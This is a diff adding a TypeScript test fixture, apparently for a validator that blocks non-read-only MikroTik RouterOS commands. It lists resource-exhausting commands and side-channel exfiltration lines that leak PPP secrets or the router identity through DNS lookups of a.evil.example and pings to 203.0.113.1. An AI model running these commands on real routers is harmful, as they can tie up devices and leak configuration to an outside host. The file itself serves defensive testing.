@@ -1,0 +1,63 @@
+const lines = (text: string): readonly string[] => text.split("\n").filter((line) => line !== "");
+
+/** Commands that change nothing, and yet can keep the router busy or fill its memory. None may pass as a read. */
+export const busyCommands: readonly string[] = lines(`
+:put [:range 0 999999999]
+:put [:range from=0 to=999999999]
+:put [:range 0 [:len "x"]]
+:foreach i in=[:range 0 999999999] do={:put $i}
+:put [:rndstr length=2000000000]
+:put [:rndstr length=[:len "x"]]
+:for i from=1 to=10000 do={:put $i}
+:for i from=1 to=900 do={:for j from=1 to=900 do={:put $j}}
+:foreach i in=[/interface find] do={:foreach j in=[/interface find] do={:put $j}}
+:foreach i in={1;2;3} do={:foreach j in=[/log find] do={:put $j}}
+:for i from=1 to=5 do={:delay 1s}
+:for i from=1 to=100 do={/ip route print}
+:foreach i in=[/log find] do={/log print}
+:foreach i in=[/log find] do={:put [/log print as-value]}
+:foreach i in=[/interface find] do={/interface ethernet monitor $i once}
+:delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s; :delay 10s
+/ping 10.0.0.1 count=100; /ping 10.0.0.1 count=100
+/ping 10.0.0.1 count=100 interval=5s
+/ping 10.0.0.1 count=4 interval=0.01
+/ping 10.0.0.1 count=4 size=60000
+/ping 224.0.0.1 count=4
+/ping 239.255.255.250 count=4
+/ping 255.255.255.255 count=4
+/ping 192.168.88.255 count=4
+/ping ff02::1 count=4
+/ping ::ffff:224.0.0.1 count=4
+/ping 3758096385 count=4
+/tool traceroute 10.0.0.1 count=1 max-hops=255
+/tool profile duration=1h
+/tool profile duration=$x
+/interface ethernet cable-test ether1 once
+:local a "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"; :local b ($a.$a.$a.$a.$a.$a.$a.$a.$a.$a); :local c ($b.$b.$b.$b.$b.$b.$b.$b.$b.$b); :local d ($c.$c.$c.$c.$c.$c.$c.$c.$c.$c); :local e ($d.$d.$d.$d.$d.$d.$d.$d.$d.$d); :local f ($e.$e.$e.$e.$e.$e.$e.$e.$e.$e); :put [:len $f]
+:local a [/ip address print as-value]; :local b "$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a$a"; :local c "$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b$b"; :put "$c$c"
+`);
+
+/** Whether they send something, or when, tells others what the router holds. None may pass as a read. */
+export const tellingCommands: readonly string[] = lines(`
+:if ([/ppp secret find name=bob] != "") do={/ping 203.0.113.1 count=1}
+:if ([/system identity get name] = "x") do={:resolve a.evil.example}
+:if ([/system identity get name] = "x") do={:put 1} else={/tool traceroute a.evil.example count=1}
+:foreach i in=[/ip address find] do={:resolve a.evil.example}
+:do {:put [/ip address get [find interface=x] address]; :resolve a.evil.example} on-error={:put 1}
+:do {:error "x"} on-error={/ping a.evil.example count=1}
+:onerror e in={:error "x"} do={:resolve a.evil.example}
+:put (true && [:resolve a.evil.example])
+:put (([/system identity get name] = "x") && [:ping 203.0.113.1 count=1])
+/ip address print where address~"1" && [:resolve a.evil.example]
+/ip address print where ([:resolve a.evil.example] = 1)
+:put [/interface get ether9 name]; :resolve a.evil.example
+:put (1 / [:len [/ip address find]]); /ping 203.0.113.1 count=1
+:if ([/system identity get name] = "x") do={:error "no"}; /ping 203.0.113.1 count=1
+:put [:pick [/system identity get name] 0 1]; :resolve a.evil.example
+/ping 203.0.113.1 count=1 size=[:len [/system identity get name]]
+/ping 203.0.113.1 count=1 ttl=$x
+:resolve a.evil.example type=[/system identity get name]
+:local n [/system identity get name]; :resolve $n
+:local n [/system identity get name]; /ping "$n.evil.example" count=1
+{ :if (true) do={:error "x"}; :resolve a.evil.example }
+`);
